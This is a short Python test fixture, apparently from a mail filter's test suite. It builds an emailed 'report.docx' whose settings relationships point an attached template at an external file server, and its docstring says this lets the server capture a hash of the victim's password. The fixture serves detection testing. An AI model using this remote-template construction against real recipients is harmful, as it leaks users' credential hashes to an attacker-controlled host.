"""A package whose template is on a file server, which learns a hash of the password."""

from __future__ import annotations

from qsfilter.testing.archives import mailed
from qsfilter.testing.messages import zip_of

HEAD = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
LINK = b'<Relationship Id="r1" Type="%battachedTemplate" Target="file://192.0.2.1/share/a.dotm"'
END = b' TargetMode="External"/></Relationships>'


def build(newline: bytes) -> bytes:
    """Return the message."""
    return mailed(
        zip_of(
            {
                "[Content_Types].xml": b"<Types/>",
                "word/document.xml": b"<document/>",
                "word/_rels/settings.xml.rels": HEAD + LINK % KIND + END,
            }
        ),
        "report.docx",
        newline,
    )
